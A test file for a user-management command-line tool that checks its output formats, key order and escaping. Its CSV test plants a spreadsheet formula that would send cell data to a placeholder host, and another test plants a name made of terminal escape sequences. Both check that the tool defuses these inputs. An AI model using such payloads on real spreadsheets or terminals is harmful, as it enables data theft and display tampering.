import { expect, test } from 'vitest';
import { identityKey } from '../../src/domain/username.ts';
import { type Scene, scene } from './scene.ts';

const iso = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;
const uuid = /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

/** In the order of the design. */
const userKeys = (
  'id username email emailVerifiedAt firstName lastName status lockedUntil lockReason failedAttempts mustChangePassword ' +
  'passwordScheme passwordChangedAt expiresAt lastLoginAt createdAt createdBy updatedAt updatedBy deletedAt deletedBy version'
).split(' ');
const eventKeys = 'seq at requestId part actor osUser host action outcome target targetName detail'.split(
  ' ',
);

async function sceneWithAlice(): Promise<Scene> {
  const cli = await scene();
  cli.secret('Correct-horse-1');
  await cli.run(
    'user add alice --email Alice@Example.org --first-name Alice --last-name "Liddell, jr" --password-stdin',
    {
      stdin: 'Correct-horse-1',
    },
  );
  return cli;
}

test('a user in JSON has the keys of the design, in its order', async () => {
  const { json, login } = await sceneWithAlice();
  const user = await json('user show alice');
  expect(Object.keys(user)).toEqual(userKeys);
  expect(user).toEqual({
    id: expect.stringMatching(uuid),
    username: 'alice',
    email: 'Alice@Example.org',
    emailVerifiedAt: null,
    firstName: 'Alice',
    lastName: 'Liddell, jr',
    status: 'active',
    lockedUntil: null,
    lockReason: null,
    failedAttempts: 0,
    mustChangePassword: false,
    passwordScheme: 'bcrypt',
    passwordChangedAt: expect.stringMatching(iso),
    expiresAt: null,
    lastLoginAt: null,
    createdAt: expect.stringMatching(iso),
    createdBy: 'tester',
    updatedAt: expect.stringMatching(iso),
    updatedBy: 'tester',
    deletedAt: null,
    deletedBy: null,
    version: 1,
  });
  await login('alice');
  expect((await json('user show alice')).lastLoginAt).toMatch(iso);
});

test.each([
  ['user add bob --no-password', userKeys],
  ['user add bob --generate', [...userKeys, 'generatedPassword']],
  ['user show alice', userKeys],
  ['user set alice --no-email', userKeys],
  ['user passwd alice --generate', [...userKeys, 'generatedPassword']],
  ['user lock alice', userKeys],
  ['user unlock alice', userKeys],
  ['user disable alice', userKeys],
  ['user enable alice', userKeys],
  ['user login alice --password-stdin', ['outcome', 'mustChangePassword', 'user']],
  ['user list --count', ['count']],
  ['audit verify', ['ok', 'events', 'head', 'checkpointed']],
  ['migrate up', ['changed', 'migrations']],
])('%s gives an object with its keys', async (line, keys) => {
  const { json } = await sceneWithAlice();
  expect(Object.keys(await json(line, { stdin: 'Correct-horse-1' }))).toEqual(keys);
});

test.each([
  ['user list', userKeys],
  ['audit show', eventKeys],
  ['policy show', ['key', 'value', 'text', 'default', 'meaning']],
  ['policy set lockoutThreshold=7', ['key', 'value', 'text', 'default', 'meaning']],
  ['migrate status', ['name', 'appliedAt']],
  ['config show', ['name', 'value', 'source']],
])('%s gives a list: an array, or a line each', async (line, keys) => {
  const { json, run } = await sceneWithAlice();
  const all = await json<Record<string, unknown>[]>(line);
  expect(all.length).toBeGreaterThan(0);
  for (const one of all) expect(Object.keys(one)).toEqual(keys);
  const lines = (await run(`${line} -o ndjson`)).stdout.trimEnd().split('\n');
  if (!line.startsWith('config')) expect(lines.map((text) => JSON.parse(text))).toEqual(all);
  else expect(lines).toHaveLength(all.length);
});

test('a user of a login is the user', async () => {
  const { json, user } = await sceneWithAlice();
  const login = await json('user login alice --password-stdin', { stdin: 'Correct-horse-1' });
  expect(login).toEqual({ outcome: 'ok', mustChangePassword: false, user: await user('alice') });
  expect(Object.keys(login.user as object)).toEqual(userKeys);
});

test('lists of nothing are empty in every format', async () => {
  const { run } = await scene();
  expect(await run('user list --json')).toEqual({ exitCode: 0, stdout: '[]\n', stderr: '' });
  expect(await run('user list -o ndjson')).toEqual({ exitCode: 0, stdout: '', stderr: '' });
  expect(await run('user list -o csv')).toMatchObject({ exitCode: 0, stderr: '' });
  expect(await run('user list -o ids')).toEqual({ exitCode: 0, stdout: '', stderr: '' });
  expect(await run('user list')).toEqual({ exitCode: 0, stdout: '', stderr: 'no users found\n' });
  expect(await run('audit show --actor nobody')).toMatchObject({ exitCode: 0, stdout: '' });
});

test('CSV has a header of the JSON keys and quotes what it must', async () => {
  const { run, user } = await sceneWithAlice();
  const { id, ...rest } = await user('alice');
  const [header, line, end] = (await run('user list -o csv')).stdout.split('\n');
  expect(header).toBe(userKeys.join(','));
  expect(line).toContain(`${id},alice,Alice@Example.org,,Alice,"Liddell, jr",active,,,0,false,bcrypt,`);
  expect(end).toBe('');
  expect(rest.version).toBe(1);
  expect((await run('user show alice -o csv')).stdout).toBe(`${header}\n${line}\n`);
  const [, event] = (await run('audit show --action user.add -o csv')).stdout.split('\n');
  expect(event).toContain('"{""fields"":[""username"",""email"",""firstName"",""lastName"",""password""]}"');
});

test('no text of CSV is a formula to a spreadsheet: of a user or an event', async () => {
  const { run, add } = await sceneWithAlice();
  await add('bob');
  const formula = '=HYPERLINK("http://example.org/?"&A1,"Bob")';
  await run(['user', 'set', 'bob', '--first-name', formula, '--last-name', '-1+2']);
  const { stdout } = await run('user list -o csv --search bob');
  expect(stdout).toContain(`,"'=HYPERLINK(""http://example.org/?""&A1,""Bob"")",'-1+2,`);
  expect((await run('user show bob -o csv')).stdout).toBe(stdout);

  expect((await run(['user', 'list', '-o', 'csv', '--actor', '@SUM(1)'])).exitCode).toBe(0);
  await run(['user', 'disable', 'bob', '--actor', '@SUM(1)']);
  const events = await run('audit show --action user.disable -o csv');
  expect(events.stdout).toMatch(/,'@SUM\(1\),/);
});

test('ids are alone on their lines, to be piped back', async () => {
  const { run, add, user } = await sceneWithAlice();
  await add('bob');
  const { stdout } = await run('user list -o ids');
  expect(stdout).toBe(`${(await user('alice')).id}\n${(await user('bob')).id}\n`);
  expect((await run('user show bob -o ids')).stdout).toBe(`${(await user('bob')).id}\n`);
  expect((await run('audit show -o ids')).stdout).toBe('1\n2\n3\n');
  expect((await run('policy show -o ids')).stdout).toMatch(/^passwordMinLength\n/);
});

test('tables are for people: columns, and one message for a change', async () => {
  const { run, add } = await sceneWithAlice();
  await add('bob');
  const { stdout, stderr } = await run('user list');
  const [head, alice, bob] = stdout.split('\n');
  expect(head).toMatch(/^USERNAME +STATUS +EMAIL +NAME +LAST LOGIN +CREATED$/);
  expect(alice).toMatch(
    /^alice +active +Alice@Example.org +Alice Liddell, jr +\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ$/,
  );
  expect(bob).toMatch(/^bob +active +\d{4}/);
  expect(stderr).toBe('');
  expect((await run('user show alice')).stdout).toMatch(
    /^Username +alice\nStatus +active\nId +[0-9a-f-]{36}\n/,
  );
  expect(await run('user disable alice')).toEqual({
    exitCode: 0,
    stdout: 'user "alice" disabled\n',
    stderr: '',
  });
  expect((await run('user show alice')).stdout).toContain('Status         disabled');
  expect((await run('audit show')).stdout).toMatch(/^SEQ +AT +ACTOR +ACTION +OUTCOME +USER +DETAIL\n1 /);
  expect((await run('policy show')).stdout).toMatch(/^bcryptCost +4 +12 /m);
  expect((await run('migrate status')).stdout).toMatch(/^0001-users +\d{4}-/m);
});

test('options that hold for all commands stand before or after', async () => {
  const { run, database } = await sceneWithAlice();
  const env = { AUTHCTL_DATABASE: '/nowhere/at/all.db' };
  const expected = await run('user show alice --json');
  for (const line of [
    `--json --database ${database} user show alice`,
    `user --json show --database ${database} alice`,
    `user show alice --database=${database} -o json`,
    `-o json user show --database ${database} alice`,
    `user show --output=json alice --database ${database}`,
  ]) {
    expect(await run(line, { env }), line).toEqual(expected);
  }
  expect((await run('user list --json', { env })).exitCode).toBe(8);
});

test('control characters in names reach neither the terminal nor a line format unescaped', async () => {
  const { run, json, sql, add } = await scene();
  await add('alice');
  const { id } = await json<{ id: string }>('user show alice');
  // The program accepts no such name, but another program may have written it into the database.
  const hostile = 'a\u001b]0;owned\u0007\u202e\nb\u009b31m\u2028c';
  sql((database) =>
    database
      .prepare('update users set first_name = ?, username = ?, username_key = ?')
      .run(hostile, hostile, identityKey(hostile)),
  );
  for (const line of [
    'user list',
    `user show ${id}`,
    'user list --json',
    'user list -o ndjson',
    'audit show',
    'audit show --json',
  ]) {
    const { stdout, exitCode } = await run(line);
    expect(exitCode, line).toBe(0);
    expect(stdout).toContain('\\u001b');
  }
  const [user] = JSON.parse((await run('user list --json')).stdout);
  expect(user.firstName).toBe(hostile);
});
